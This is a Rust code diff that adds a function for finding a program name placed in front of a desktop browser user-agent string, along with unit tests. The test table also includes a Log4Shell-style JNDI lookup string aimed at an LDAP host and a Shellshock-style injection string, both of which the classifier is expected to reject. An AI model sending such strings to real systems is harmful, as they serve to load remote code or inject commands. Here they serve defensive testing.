@@ -59,6 +59,17 @@ pub(super) fn tool_word(user_agent: &str) -> Option<&str> {
     })
 }
 
+/// The name in front of all that a browser on a desk says of itself: `PagePreview Mozilla/5.0 (X11; Linux x86_64) …`.
+/// Phones put their own names there.
+pub(super) fn name_before_browser(user_agent: &str) -> Option<&str> {
+    let (name, browser) = user_agent.split_once(" Mozilla/5.0 (")?;
+    let on_desk = ["X11", "Macintosh", "Windows NT"].iter().any(|desk| browser.starts_with(desk));
+    let word = name.split([' ', '(']).next()?;
+    let is_header = name.ends_with(':');
+    (on_desk && !is_header && is_name(name) && !is_of_people(name) && !names_a_system(name))
+        .then_some(word)
+}
+
 /// The rest of what begins like nearly all browsers, behind `Mozilla/5.0 (compatible; `; and whether it did.
 fn without_mozilla(user_agent: &str) -> (bool, &str) {
     let Some(rest) = user_agent.strip_prefix("Mozilla/") else { return (false, user_agent) };
@@ -69,14 +80,15 @@ fn without_mozilla(user_agent: &str) -> (bool, &str) {
 
 /// Whether a text is what a program may call itself: letters above all, and nothing that attacks are made of.
 fn is_name(text: &str) -> bool {
-    const LETTERS_MIN: usize = 3;
     const MARKS: &str = " .,:;-_/+&!'()[]#@%*~=";
     let is_of_names = |c: char| c.is_ascii_alphanumeric() || MARKS.contains(c);
     let letters = text.chars().take_while(|c| *c != '/').filter(char::is_ascii_alphabetic).count();
+    // With a version behind it, two are enough.
+    let letters_min = if text.contains('/') { 2 } else { 3 };
     // Whoever sends a header's name in the header has copied it, as people do too.
     let is_header = text.split_once(": ").is_some();
     text.starts_with(|c: char| c.is_ascii_alphanumeric())
-        && letters >= LETTERS_MIN
+        && letters >= letters_min
         && !is_header
         && text.chars().all(is_of_names)
 }
@@ -157,6 +169,21 @@ mod tests {
     }
 
     #[test]
+    fn names_in_front_of_a_browser() {
+        for (user_agent, word) in [
+            ("page-preview Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0", Some("page-preview")),
+            ("Thing 2 (x) Mozilla/5.0 (Windows NT 10.0) Chrome/131.0", Some("Thing")),
+            ("LG-D855 Mozilla/5.0 (Linux; Android 6.0; LG-D855) Chrome/38.0", None),
+            ("User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0", None),
+            ("Mozilla/5.0 (X11; Linux) Firefox/131.0 Mozilla/5.0 (X11; Linux)", None),
+            ("Firefox Mozilla/5.0 (X11; Linux x86_64)", None),
+            (" Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0", None),
+        ] {
+            assert_eq!(name_before_browser(user_agent), word, "{user_agent}");
+        }
+    }
+
+    #[test]
     fn programs_without_a_bots_word() {
         for (user_agent, word) in [
             ("thing.example.com", Some("thing.example.com")),
@@ -166,6 +193,7 @@ mod tests {
             ("thing/1.0", Some("thing/1.0")),
             ("Some thing 1.0.beta", Some("Some")),
             ("ab", None),
+            ("ab/1.0", Some("ab/1.0")),
             ("${jndi:ldap://192.0.2.1/a}", None),
             ("() { :;}; echo x", None),
             ("Accept-Encoding: gzip, deflate", None),
